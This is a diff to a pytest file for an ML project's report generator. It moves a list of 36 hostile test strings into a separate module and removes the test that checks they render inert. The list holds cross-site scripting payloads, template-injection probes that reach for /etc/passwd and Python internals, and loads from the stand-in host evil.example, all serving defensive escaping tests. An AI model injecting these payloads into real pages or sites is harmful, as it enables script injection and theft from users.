@@ -12,79 +12,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from report_cases import HOSTILE, MARKDOWN_ENDS, with_text_everywhere
 
 from llm_jepa.experiments.results import RunResult, build_results
 from llm_jepa.report.figures import plot_comparison, plot_curves
 from llm_jepa.report.html import write_geometry_report, write_report
 from llm_jepa.report.markdown import experiment_markdown, geometry_markdown
 from llm_jepa.report.run_folders import NUM_EXAMPLES
-
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "</style></pre></code></title><script src=//evil.example/x.js></script>",
-    '"><img src=x onerror=alert(1)>',
-    "' onmouseover='alert(1)' x='",
-    "<svg/onload=alert(1)><rect fill='url(https://evil.example/)'/></svg>",
-    "{{ 7 * 7 }}{% include '/etc/passwd' %}{# gone #}",
-    "--><iframe srcdoc='<b>x</b>'></iframe><!--",
-    "<a href='javascript:alert(1)'>&lt;b&gt;&#60;i&#62;</a>",
-    "]]><meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    # out of the element or the attribute that it stands in
-    "</title></g></svg><script>alert(1)</script>",
-    "</svg><style>@import 'https://evil.example/a.css';</style>",
-    "</text></svg><math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-    "</td></tr></table></details></main></body></html><body onload=alert(1)>",
-    '" autofocus onfocus="alert(1)" tabindex="1" x="',
-    "x` onclick=alert(1) `",
-    "x\nonmouseenter=alert(1)\n/",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml-stylesheet href='https://evil.example/a.xsl'?>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<template><script>alert(1)</script></template><xmp><b>",
-    # what loads, sends or changes the page without a script
-    "<link rel=stylesheet href=https://evil.example/a.css>",
-    "<base href='https://evil.example/'><form action='https://evil.example/'><button>go</button></form>",
-    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
-    "<image href='https://evil.example/p.png'/><use xlink:href='https://evil.example/s.svg#x'/>",
-    "<foreignObject><iframe src='https://evil.example/'></iframe></foreignObject>",
-    "<animate attributeName=href values='javascript:alert(1)'/><set attributeName=onload to=alert(1)>",
-    "<video poster='https://evil.example/p.png'><source src=x onerror=alert(1)></video>",
-    "<div style='background:url(https://evil.example/p.png)' class=worse id=answer>",
-    "javascript:alert(1)//https://evil.example/",
-    # another language than HTML
-    '</script>{"__proto__": {"x": 1}}\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
-    "body{display:none}*{background:url(https://evil.example/p.png)}/*",
-    "{{ ''.__class__.__mro__[1].__subclasses__() }}${7*7}#{7*7}<%= 7*7 %>",
-    "&lt;script&gt;&#x3C;img src=x onerror=alert(1)&#x3E;&NewLine;&Tab;&colon;",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "\u202e\u2066right\x1b[31m to left\u0000\ud800 and half a character",
-]
-MARKDOWN_ENDS = "*bold* _x_ `code` | cell | ![i](https://evil.example/p.png) [l](javascript:alert(1)) www.evil.example"
-
-
-def grid_with(text: str) -> dict[str, Any]:
-    """A grid of two cells, with the text as a value, a name and a reason."""
-    nothing = {"seeds": {}, "mean": None, "std": None, "n": 0}
-    cells = [
-        {"arm": f"cell {text}", "coordinates": {"jepa_k": value}, "validation": nothing, "test": nothing}
-        for value in (1, text)
-    ]
-    cells = [cell | {"failed": {"1": text}, "chosen": False} for cell in cells]
-    about = {"arm": f"grid {text}", "choose_by": "exact_match", "higher_is_better": True, "metric": "exact_match"}
-    return about | {"axes": {"jepa_k": [1, text]}, "chosen": None, "cells": cells}
-
-
-def with_text_everywhere(results: dict[str, Any], text: str) -> dict[str, Any]:
-    """Add an arm that is named by the text, a note, a grid, a comparison at equal FLOPs with a note."""
-    values = {"ntp": (0.3, 0.31), "jepa": (0.4, 0.42), f"arm {text}": (0.5, 0.5)}
-    runs = [RunResult(arm, seed, {"exact_match": v}) for arm, by in values.items() for seed, v in enumerate(by, 1)]
-    cost = {arm: {"step_time_ratio": 1.5, "flops_ratio": 1.25} for arm in values}
-    alarm = {"alarmed": True, "first_step": 3, "reason": f"Collapsed: {text}"}
-    named = build_results(runs, settings=results["settings"], cost=cost)
-    named |= {"alarms": {arm: {"1": alarm, "2": alarm} for arm in values}, "notes": [f"Note: {text}"]}
-    again = named | {"budgets": {f"arm {text}": {"max_steps": 5}}, "notes": [f"Steps: {text}"]}
-    return named | {"grids": {"grid": grid_with(text)}, "equal_flops": again}
 
 
 @pytest.fixture(scope="module")
@@ -139,26 +73,6 @@ def report(make_experiment, drawn, read_page, tmp_path) -> Callable[..., tuple[A
 
 
 # ---- text of data stays text ----
-
-
-def test_there_are_thirty_payloads_and_more():
-    assert len(set(HOSTILE)) == len(HOSTILE) == 36
-
-
-@pytest.mark.parametrize("kind", ["render", "render_analysis"])
-def test_no_text_of_the_data_becomes_markup(kind, request, read_page):
-    """Names of arms, texts, answers, titles of points, names of files and settings, notes, reasons, machine and command
-    add no element, no attribute, nothing that loads: 36 of 36 payloads are inert."""
-    render = request.getfixturevalue(kind)
-    plain = read_page(render("plain"))
-    for payload in HOSTILE:
-        html = render(payload)
-        page = read_page(html)
-        assert page.elements == plain.elements, payload
-        assert page.names == plain.names, payload
-        assert not [name for _, name in page.names if name.startswith("on") or name in ("style", "id")]
-        assert all(value.startswith("data:image/svg+xml;base64,") for value in page.loads)
-        assert not [char for char in html if not char.isprintable() and char != "\n"]
 
 
 @pytest.mark.parametrize("kind", ["render", "render_analysis"])
@@ -323,7 +237,8 @@ def test_the_report_of_an_analysis_answers_with_an_interval_too(make_geometry, r
     opening = read_page(html[html.index("<h1>") : html.index("<svg")]).words
     assert "Do texts find their own codes?" in opening
     assert "More often than by chance in 1 of 2 runs." in opening
-    assert "in jepa 50.0% (95% interval 31.4 to 68.6); in ntp 0.0% (95% interval 0.0 to 13.8)" in opening
+    assert "Of 24 texts, 50.0% (95% interval 31.4 to 68.6) have their own of 24 codes nearest in jepa" in opening
+    assert "; 0.0% (95% interval 0.0 to 13.8) in ntp; " in opening
     assert "at random it would be 4.2%" in opening
     assert "Collapsed, by these pairs: jepa." in opening and "Cost: no training" in opening
     page = read_page(html)
